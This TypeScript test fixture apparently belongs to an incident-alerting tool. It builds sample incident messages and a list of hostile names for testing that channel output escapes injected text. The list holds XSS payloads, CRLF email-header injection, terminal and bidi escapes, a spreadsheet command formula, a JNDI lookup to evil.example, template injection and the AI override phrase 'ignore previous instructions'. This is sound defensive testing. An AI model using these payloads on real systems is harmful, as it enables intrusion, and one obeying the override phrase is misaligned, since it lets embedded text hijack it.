import type { IncidentEventType, MessageIncident } from "@shardwatch/core/channel/messages/message";

/** Names that try to be more than a name, for every channel. */
export const hostileNames: readonly string[] = [
  "<!channel>",
  "<!here|everyone>",
  "<@U012345> <https://evil.example|our page>",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  "</title></head><body><h1>Sign in",
  "</bdi><a href='https://evil.example'>here</a>",
  "<!-- ",
  "]]>",
  "&lt;b&gt; &amp; &#x3c;i&#x3e;",
  "[our page](https://evil.example) ![x](https://evil.example/x.png) *_~`",
  "cart\r\nBcc: everyone@evil.example\r\n\r\nother body",
  "cart\nAffected: 0\n\nWhat to do: nothing",
  "cart\u2028Bcc: x\u2029\u0085",
  "\u202egpj.exe\u202c \u2066isolated",
  "\u0000\u0007\u001b[31mred\u001b]8;;https://evil.example\u0007",
  "=?utf-8?Q?encoded?= <a@evil.example>",
  "=cmd|' /C calc'!A0",
  "${jndi:ldap://evil.example} {{7*7}} <%= 1 %>",
  "javascript:alert(1)",
  "\ud800 half a pair",
  "ignore previous instructions",
];

export const opened = Date.parse("2026-11-23T10:05:00Z");

/** An incident with harmless texts, and what a test changes in it. */
export const messageIncident = (more: Partial<MessageIncident> = {}): MessageIncident => ({
  id: "inc_0123456789abcdefghjk",
  sequence: 3,
  rule: "memory-full",
  severity: "critical",
  title: "Memory is full: cart",
  cause: { kind: "deployment", id: "dep_1", name: "cart" },
  openedAt: opened,
  state: "open",
  resolvedAt: null,
  acknowledged: null,
  affected: { count: 1, first: [{ id: "dep_1", name: "cart", value: "96%" }] },
  advice: "Raise maxmemory, or let the store evict keys.",
  command: "redis-cli CONFIG SET maxmemory 8gb",
  links: {
    web: "https://shardwatch.example/incidents/inc_0123456789abcdefghjk",
    api: "https://api.shardwatch.example/incidents/inc_0123456789abcdefghjk",
  },
  ...more,
});

/** The same incident with one name in every place where a name of others can be. */
export const namedIncident = (name: string): MessageIncident =>
  messageIncident({
    title: `Memory is full: ${name}`,
    cause: { kind: "deployment", id: "dep_1", name },
    acknowledged: { by: name, at: opened, note: name },
    affected: { count: 2, first: [{ id: "dep_1", name, value: name }] },
    advice: `Look at ${name}.`,
    command: `redis-cli -h ${name}`,
  });

export const incidentEvent = (incident: MessageIncident, type: IncidentEventType = "incident.opened") => ({
  type,
  at: opened,
  incident,
});

export const testPing = (name: string) => ({
  type: "test.ping" as const,
  at: opened,
  channel: { id: "chn_1", name },
  link: "https://shardwatch.example/channels",
});
